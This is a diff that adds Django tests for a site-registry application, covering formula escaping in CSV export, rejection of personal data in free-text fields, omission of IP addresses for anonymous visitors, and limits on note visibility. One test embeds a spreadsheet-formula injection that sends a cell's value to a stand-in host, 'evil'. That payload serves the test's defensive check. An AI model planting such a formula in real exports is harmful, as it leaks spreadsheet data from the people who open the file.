@@ -87,3 +87,58 @@ def test_csv_in_windows_1252_and_one_column_files_import_or_report(tmp_path):
     single = tmp_path / "single.csv"
     single.write_text("id\nA\nB\n")
     assert [r.point for r in read_rows(single)] == [None, None]
+
+
+def test_exported_text_cannot_run_as_a_spreadsheet_formula(admin):
+    services.declare_site(
+        {"point": point_in("92040"), "name": '=HYPERLINK("http://evil/?"&A1,"x")'},
+        acting_user=admin,
+        confirm_nearby=True,
+    )
+    api = APIClient()
+    api.force_authenticate(admin)
+    text = api.get("/api/v1/sites/export/").content.decode()
+    assert "'=HYPERLINK" in text and ',"=HYPERLINK' not in text
+
+
+def test_restricted_zones_and_access_requests_go_through_the_guard():
+    from django.core.exceptions import ValidationError
+
+    from actors.models import AccessRequest
+    from sites.models import RestrictedZone
+    from tests.factories import territory
+
+    commune = territory("92012")
+    zone = RestrictedZone(
+        name="Chez M. Dupont 06 12 34 56 78",
+        rules="ok",
+        commune=commune,
+        geom=commune.geom,
+    )
+    with pytest.raises(ValidationError) as error:
+        zone.full_clean()
+    assert "name" in error.value.message_dict
+    request = AccessRequest(
+        email="a@b.fr", first_name="A", last_name="B", territory=commune, role="observer",
+        reason="Mon IBAN FR76 3000 6000 0112 3456 7890 189", new_organization_name="X",
+    )  # fmt: skip
+    with pytest.raises(ValidationError) as error:
+        request.full_clean()
+    assert "reason" in error.value.message_dict
+
+
+def test_anonymous_visitors_addresses_are_not_kept(client):
+    from actors.models import AuditEvent
+
+    client.post("/accounts/login/", {"username": "nobody@example.org", "password": "x"})
+    assert AuditEvent.objects.get(action="login.failed").ip_address is None
+
+
+def test_note_visibility_choices_are_limited_to_organizations_in_sight(admin):
+    from sites.forms import NoteForm
+    from tests.factories import OrganizationFactory, territory
+
+    near = OrganizationFactory(territory=territory("92"))
+    far = OrganizationFactory(territory=territory("13"))
+    choices = set(NoteForm(user=admin).fields["visible_to"].queryset)
+    assert near in choices and far not in choices
